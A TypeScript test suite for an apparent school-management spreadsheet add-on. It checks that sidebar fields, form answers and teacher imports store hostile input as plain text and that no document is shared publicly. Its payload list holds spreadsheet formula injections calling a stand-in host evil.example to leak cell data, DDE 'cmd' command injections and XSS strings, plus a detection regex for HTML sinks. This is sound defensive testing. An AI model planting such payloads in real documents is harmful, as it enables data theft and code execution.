/**
 * Security: every text entry point (sidebar fields, form answers, the teacher list import) fed
 * formula injections (=, +, -, @) and HTML/script payloads stores them as text — no formula
 * anywhere in the book, the payload read back exactly; the sidebars never parse data as HTML;
 * no document or folder is ever shared with "anyone". The manifest's scopes against the README
 * are checked in tests/bundle/bundle.test.ts («every scope is justified in the README»).
 */
import fs from 'node:fs';
import path from 'node:path';
import { submitFormResponse } from '@pds/emulator';
import { FORM_DEFINITIONS, type StoredForm } from '../../src/forms/definitions';
import type { Addon } from '../helpers/addon';
import { T, validSchool } from '../helpers/school';
import { settings } from '../helpers/payloads';
import { protocolInput, withFolder, withHeldMeeting } from './actions';
import { Addon as AddonClass } from '../helpers/addon';
import { sharedWithAnyone } from './harness';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Открыть")',
  '=IMPORTXML("https://evil.example","//a")',
  '+7 913 000-00-00',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '<script>alert("xss")</script>',
  '<img src=x onerror=alert(1)>',
];

type Result = { status: string; message?: string; fields?: Record<string, string> };

/** Every formula in the book, as "tab!row,col: formula". */
function formulas(addon: Addon): string[] {
  return addon.asPerson((app) =>
    app
      .getActiveSpreadsheet()
      .getSheets()
      .flatMap((s) =>
        s
          .getDataRange()
          .getFormulas()
          .flatMap((row, r) => row.flatMap((f, c) => (f ? [`${s.getName()}!${r + 1},${c + 1}: ${f}`] : []))),
      ),
  );
}

/** Cells whose value is exactly `text` (a string, never a computed result). */
function cellsHolding(addon: Addon, text: string): string[] {
  return addon.asPerson((app) =>
    app
      .getActiveSpreadsheet()
      .getSheets()
      .flatMap((s) =>
        s
          .getDataRange()
          .getValues()
          .flatMap((row, r) => row.flatMap((v, c) => (v === text ? [`${s.getName()}!${r + 1},${c + 1}`] : []))),
      ),
  );
}

function storedAsText(addon: Addon, payload: string, save: () => Result): void {
  const before = formulas(addon);
  const result = save();
  expect(result).toMatchObject({ status: 'success' });
  expect(formulas(addon)).toEqual(before);
  expect(cellsHolding(addon, payload).length).toBeGreaterThan(0);
}

describe.each(PAYLOADS.map((p) => [p]))('%s', (payload) => {
  test('the teacher card (name, subject, note, a class)', () => {
    const addon = validSchool();
    storedAsText(addon, payload, () =>
      addon.call('saveTeacher', {
        teacher: { fullName: payload, email: 'new@school.example', role: 'teacher', subject: payload, note: payload },
        classes: [{ schoolYear: '2026/2027', className: '7Б', programme: payload, planning: payload, textbooks: payload }],
        requestKey: 'security-teacher-1',
      }),
    );
    expect(cellsHolding(addon, payload).length).toBeGreaterThanOrEqual(6);
  });

  test('a programme (problems and a plan item)', () => {
    const addon = validSchool();
    storedAsText(addon, payload, () =>
      addon.call('saveProgramme', {
        programmeId: null,
        draft: false,
        teacherId: 'T00001',
        categories: ['methodical'],
        sources: [],
        problems: payload,
        leadId: 'T00002',
        participantsIds: [],
        decisionDate: '2026-09-01',
        helpForms: ['coaching'],
        emphasis: '',
        place: '',
        start: '2026-09-07',
        end: '2027-05-31',
        items: [{ id: null, content: payload, deadline: '2026-10-15', supportedActivity: payload, supporterActivity: '', jointActivity: '', checkpoint: '' }],
      }),
    );
  });

  test('a session (topic, place, stage)', () => {
    const addon = validSchool();
    storedAsText(addon, payload, () =>
      addon.call('scheduleSessions', { kind: 'coaching', format: 'individual', leaderId: 'T00002', participantsIds: ['T00003'], topic: payload, place: payload, stage: payload, date: '2026-10-01' }),
    );
    expect(cellsHolding(addon, payload)).toHaveLength(3);
  });

  test('a protocol (question, heard, decision, invited)', () => {
    const addon = AddonClass.from(withHeldMeeting());
    const input = protocolInput(addon);
    storedAsText(addon, payload, () =>
      addon.call('saveProtocol', { ...input, invited: payload, questions: [{ question: payload, heard: payload, decision: payload, responsibleIds: [], deadline: '' }], requestKey: null }),
    );
    expect(cellsHolding(addon, payload)).toHaveLength(4);
  });

  test('the settings (school name)', () => {
    const addon = validSchool();
    storedAsText(addon, payload, () => addon.call('saveSettings', settings(addon, { schoolName: payload })));
  });

  test('a form answer', () => {
    const addon = validSchool();
    addon.click('Анкеты → Создать анкеты');
    const stored = addon.stored('form.feedback');
    const formId = (JSON.parse(stored!) as StoredForm).formId;
    const title = (key: string) => FORM_DEFINITIONS.feedback.questions.find((q) => q.key === key)!.title;
    const before = formulas(addon);
    const submitted = submitFormResponse(addon.host, formId, { [title('fullName')]: T.ivanova, [title('session')]: payload, [title('usefulness')]: 4, [title('changed')]: payload, [title('next')]: payload }, { respondent: 'ivanova@school.example' });
    expect(submitted.fired.every((f) => f.outcome.ok)).toBe(true);
    expect(formulas(addon)).toEqual(before);
    // The responses tab and the «Обратная связь» row both hold the text.
    expect(cellsHolding(addon, payload).filter((c) => c.startsWith('Обратная связь!'))).toHaveLength(3);
  });

  test('the teacher list import', () => {
    const addon = validSchool();
    const before = formulas(addon);
    const result = addon.call('applyTeacherImport', { source: 'text', text: `ФИО\tПочта\tПредмет\n${payload}\tnew@school.example\t${payload}` });
    expect(result).toMatchObject({ status: 'success' });
    expect(formulas(addon)).toEqual(before);
    expect(cellsHolding(addon, payload).filter((c) => c.startsWith('Педагоги!'))).toHaveLength(2);
  });
});

test('the sidebars never hand data to an HTML parser', () => {
  const root = path.resolve(__dirname, '..', '..', 'sidebar');
  const files = (dir: string): string[] => fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)]));
  const sinks = /\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser|\bv-html\b|dangerouslySetInnerHTML/;
  const offenders = files(root)
    .filter((f) => /\.(ts|tsx|js|html)$/.test(f))
    .filter((f) => sinks.test(fs.readFileSync(f, 'utf8')))
    .map((f) => path.relative(root, f));
  expect(offenders).toEqual([]);
  // The server never prints unescaped data into a page either (HtmlService's <?!= ?>).
  const server = path.resolve(__dirname, '..', '..', 'src');
  expect(files(server).filter((f) => fs.readFileSync(f, 'utf8').includes('<?!='))).toEqual([]);
});

test('every kind of document, shared with its teacher, is never open to anyone', () => {
  const addon = AddonClass.from(withFolder());
  addon.setting('Открывать документы педагогу для просмотра', 'да');
  for (const kind of ['passport', 'card', 'protocol', 'annualReport', 'monthlyPlan'] as const) {
    const started = addon.call('startDocuments', { kind, scope: 'needed' });
    expect(started.status).toBe('success');
    expect(sharedWithAnyone(addon)).toEqual([]);
  }
});
